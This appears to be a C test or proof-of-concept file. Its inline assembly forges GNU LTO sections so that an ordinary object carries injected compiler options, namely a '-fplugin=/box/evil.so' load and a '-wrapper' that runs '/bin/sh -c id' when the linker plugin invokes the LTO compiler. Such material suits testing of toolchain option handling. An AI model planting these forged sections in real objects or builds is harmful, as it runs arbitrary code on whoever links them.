/* Poses as an object of link time optimisation with options of its own, which the linker's plugin would hand to a second compiler. */
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".string \"'-fplugin=/box/evil.so' '-wrapper' '/bin/sh,-c,id'\"\n"
        ".section .gnu.lto_.symtab.0,\"e\",@progbits\n"
        ".string \"main\"\n"
        ".byte 0, 0\n"
        ".quad 0, 0\n"
        ".section .gnu.lto_main.0.0,\"e\",@progbits\n"
        ".quad 0\n"
        ".text\n");
int main(void) { return 0; }
